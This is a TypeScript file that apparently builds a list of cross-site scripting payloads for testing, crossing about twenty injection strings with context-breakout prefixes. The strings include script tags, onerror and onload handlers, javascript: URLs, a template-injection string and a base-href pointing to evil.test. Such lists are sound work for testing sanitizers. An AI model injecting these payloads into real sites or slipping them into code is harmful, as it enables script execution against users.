/** What runs a script wherever a text is taken for markup, an attribute, a script, a template or an address. */
const scripts = [
  '<script>pwn()</script>',
  '<ScRiPt src=data:,pwn()></ScRiPt>',
  '<img src=x onerror=pwn()>',
  '<svg onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<iframe src="javascript:parent.pwn()">',
  '<a href="javascript:pwn()" autofocus onfocus=pwn()>x</a>',
  '<details open ontoggle=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<video><source onerror=pwn()></video>',
  '<math><mtext><img src=x onerror=pwn()></mtext></math>',
  '<style>@import "javascript:pwn()"</style>',
  '<link rel=stylesheet href="data:text/css,*{color:red}">',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  '<form action="javascript:pwn()"><button autofocus>x</button></form>',
  '{{constructor.constructor("pwn()")()}}',
  ['$', '{pwn()}'].join(''),
  '&lt;script&gt;pwn()&lt;/script&gt;',
] as const;

/** What leaves the place that a text stands in. */
const waysOut = [
  '',
  '">',
  "' autofocus onfocus=pwn() x='",
  '</title></textarea></style></script>',
  '--></p>',
] as const;

export const payloads: readonly string[] = scripts.flatMap((script) =>
  waysOut.map((out) => `${out}${script}`),
);
